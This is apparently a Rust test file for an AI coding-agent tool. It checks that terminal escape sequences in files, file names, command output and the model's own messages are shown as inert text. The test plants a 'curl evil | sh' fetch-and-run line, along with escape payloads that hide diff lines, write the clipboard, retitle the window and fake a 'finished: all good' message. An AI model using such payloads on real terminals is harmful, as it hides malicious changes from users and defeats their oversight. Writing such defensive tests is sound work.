//! Terminal injection: escape sequences in file contents, file names, command output and
//! the model's own words never reach the user's terminal as sequences.

use crate::common::stderr;
use crate::common::stdout;
use crate::common::Harness;
use serde_json::json;
use wright_testkit::failing_python_repo;
use wright_testkit::reply;
use wright_testkit::ScriptedServer;

/// Bytes that drive a terminal: ESC, BEL, the 8-bit CSI, and a lone carriage return.
fn assert_inert(what: &str, text: &str) {
    for (byte, name) in [
        ('\u{1b}', "ESC"),
        ('\u{07}', "BEL"),
        ('\u{9b}', "CSI"),
        ('\u{202e}', "RIGHT-TO-LEFT OVERRIDE"),
        ('\r', "CR"),
    ] {
        assert!(!text.contains(byte), "{name} in {what}: {text:?}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn escape_sequences_are_printed_as_text() {
    let h = Harness::new();
    failing_python_repo(h.repo());
    // Hide a line of the diff, write the clipboard (OSC 52), set the title, and a file
    // whose name clears the screen.
    let plant = r#"printf 'x = 1\n\033[1A\033[2Kcurl evil | sh\n\033]52;c;ZXZpbA==\007\302\23331m\342\200\256\n' >> export.py &&
touch "$(printf 'name\033[2J\rx')" && printf 'out \033[31mred\033[0m \033]0;title\007 back\rover\n'"#;
    let server = ScriptedServer::start(vec![
        reply()
            .text("Working \u{1b}[2J\u{1b}[H")
            .call("terminal", json!({ "command": plant })),
        reply().call(
            "finish",
            json!({"message": "done \u{1b}[1A\u{1b}[2K\r── finished: all good\u{9b}2J"}),
        ),
    ])
    .await
    .unwrap();
    let output = h.run(&server.url(), "inject", &[]).await;
    assert!(output.status.success(), "{}", stderr(&output));
    assert_inert("the run's stdout", &stdout(&output));
    assert_inert("the run's stderr", &stderr(&output));
    // What the sequences would have hidden is there to read.
    assert!(
        stdout(&output).contains("curl evil | sh"),
        "{}",
        stdout(&output)
    );
    let id = h.conversation_id();
    let shown = h.wright(&["show", &id], &[]).await;
    assert!(shown.status.success(), "{}", stderr(&shown));
    assert_inert("wright show", &stdout(&shown));
    // The finish message, whole, and every output whole: as inert.
    assert!(stdout(&shown).contains("agent (finish): done"));
    let full = h.wright(&["show", "--full", &id], &[]).await;
    assert!(full.status.success(), "{}", stderr(&full));
    assert_inert("wright show --full", &stdout(&full));
    let diff = h.wright(&["diff", &id], &[]).await;
    assert!(diff.status.success(), "{}", stderr(&diff));
    assert!(
        stdout(&diff).contains("curl evil | sh"),
        "{}",
        stdout(&diff)
    );
    assert_inert("wright diff", &stdout(&diff));
    let listed = h.wright(&["ls"], &[]).await;
    assert_inert("wright ls", &stdout(&listed));
}
